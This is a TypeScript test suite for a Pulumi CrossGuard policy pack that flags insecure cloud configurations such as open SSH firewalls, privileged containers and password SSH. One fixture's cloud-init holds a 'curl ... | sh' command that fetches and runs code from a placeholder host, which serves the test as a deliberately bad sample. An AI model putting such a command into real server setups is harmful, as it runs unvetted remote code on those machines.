import { Secret } from "@pulumi/policy";
import { describe, expect, it } from "vitest";
import { UNKNOWN } from "../../cli/offline";
import { judgeResource, PARSE_RULES } from "../../policies/engine/judge";
import { airlockPolicies } from "../../policies/pack";
import { RULES } from "../../policies/rules";
import { POLICY_FILE } from "../../policies/policy";
import { planShipped, SHIPPED_STACKS } from "../helpers/stacks";
import { CONTEXT, policyPackConfig, resource, runPack, validationArgs } from "./helpers";

// eslint-disable-next-line @typescript-eslint/no-require-imports
const { unknownCheckingProxy } = require("@pulumi/policy/proxy") as { unknownCheckingProxy<T>(t: T): T };

const badFirewall = resource("hcloud:index/firewall:Firewall", "fw", {
    rules: [{ direction: "in", protocol: "tcp", port: "22", sourceIps: ["0.0.0.0/0"] }],
});
const badServer = resource("hcloud:index/server:Server", "s", { firewallIds: [], userData: "#cloud-config\nssh_pwauth: true\nruncmd:\n  - curl -s https://x.example | sh\n" });
const badKey = resource("tailscale:index/tailnetKey:TailnetKey", "x-sandbox-join-key", { reusable: true, ephemeral: false, preauthorized: true, tags: ["tag:x"] });
const badContainer = resource("docker:index/container:Container", "c", { image: "nginx", privileged: true });

describe("the CrossGuard pack", () => {
    it("has one policy per rule, named by its kebab-case id, with a description and a fix", () => {
        const policies = airlockPolicies();
        const names = policies.map((p) => p.name);
        expect(new Set(names).size).toBe(names.length);
        // Stack-file rules are not in the pack: CrossGuard never sees the stack file.
        expect([...names].sort()).toEqual([...RULES.filter((r) => r.kind !== "stack-file").map((r) => r.id), ...PARSE_RULES.map((r) => r.id)].sort());
        for (const p of policies) {
            expect(p.name).toMatch(/^[a-z0-9]+(-[a-z0-9]+)+$/);
            expect(p.description).toMatch(/Fix: .{10,}/);
            expect(p.enforcementLevel).toBe("mandatory");
        }
    });

    it.each([badFirewall, badServer, badKey, badContainer])("reports exactly what `airlock check/gate` finds for $name", async (r) => {
        const pack = await runPack(r);
        const cli = judgeResource(r, CONTEXT);
        expect(cli.length).toBeGreaterThan(0);
        expect([...pack.keys()].sort()).toEqual([...new Set(cli.map((f) => f.rule))].sort());
        const total = [...pack.values()].reduce((n, messages) => n + messages.length, 0);
        expect(total).toBe(cli.length);
        for (const messages of pack.values()) for (const m of messages) expect(m).toMatch(/Fix: /);
    });

    it.each(SHIPPED_STACKS)("reports nothing for the shipped %s plan, with or without --policy-pack-config policies/config.json", async (stack) => {
        const plan = await planShipped(stack);
        const asTheWorkflowRunsIt = policyPackConfig(POLICY_FILE);
        for (const r of plan.resources) {
            expect([...(await runPack(r)).keys()], r.urn).toEqual([]);
            expect([...(await runPack(r, asTheWorkflowRunsIt)).keys()], r.urn).toEqual([]);
        }
    });

    it("fails closed on values @pulumi/policy hides behind its unknown-checking proxy", async () => {
        const r = resource("hcloud:index/firewall:Firewall", "fw", {});
        const args = validationArgs(r);
        (args as any).props = unknownCheckingProxy({ rules: UNKNOWN });
        const reports: string[] = [];
        for (const policy of airlockPolicies()) {
            if (policy.name !== "hcloud-firewall-no-public-inbound-tcp" || !("validateResource" in policy)) continue;
            await (policy.validateResource as any)(args, (m: string) => reports.push(m));
        }
        expect(reports).toHaveLength(1);
        expect(reports[0]).toMatch(/^unverifiable/);
    });

    it("judges a secret's plaintext (user_data is a secret when it holds the join key)", async () => {
        const r = resource("hcloud:index/server:Server", "s", { firewallIds: [1], userData: new Secret("#cloud-config\nssh_pwauth: true\n") });
        expect([...(await runPack(r)).keys()]).toEqual(["cloud-init-ssh-password-auth-off"]);
    });

    it("takes the judge context from the policy config", async () => {
        const stash = resource("pulumi:index:Stash", "a", {
            input: { airlockArtifacts: { "etc/airlock/sshd_config.in": "ListenAddress 100.64.0.1\nPermitRootLogin no\nPasswordAuthentication no\nKbdInteractiveAuthentication no\nDisableForwarding yes\nAcceptEnv NPM_TOKEN\n" } },
        });
        expect([...(await runPack(stash)).keys()].sort()).toEqual(["sshd-accept-env-allowlist", "sshd-agent-force-command"]);
        expect([...(await runPack(stash, { envAllowlist: ["NPM_TOKEN"], agentUser: "agent" })).keys()]).toEqual(["sshd-agent-force-command"]);
    });

    it("the stack policy flags a server whose user_data nobody can see", async () => {
        const policy = airlockPolicies().find((p) => p.name === "hcloud-servers-user-data-verifiable")!;
        const reports: string[] = [];
        await (policy as any).validateStack(
            {
                resources: [{ urn: "urn:s", type: "hcloud:index/server:Server", name: "s", props: { userData: UNKNOWN }, opts: {} }],
                getConfig: () => ({}),
            },
            (m: string) => reports.push(m),
        );
        expect(reports).toHaveLength(1);
        expect(reports[0]).toMatch(/unverifiable/);
    });
});
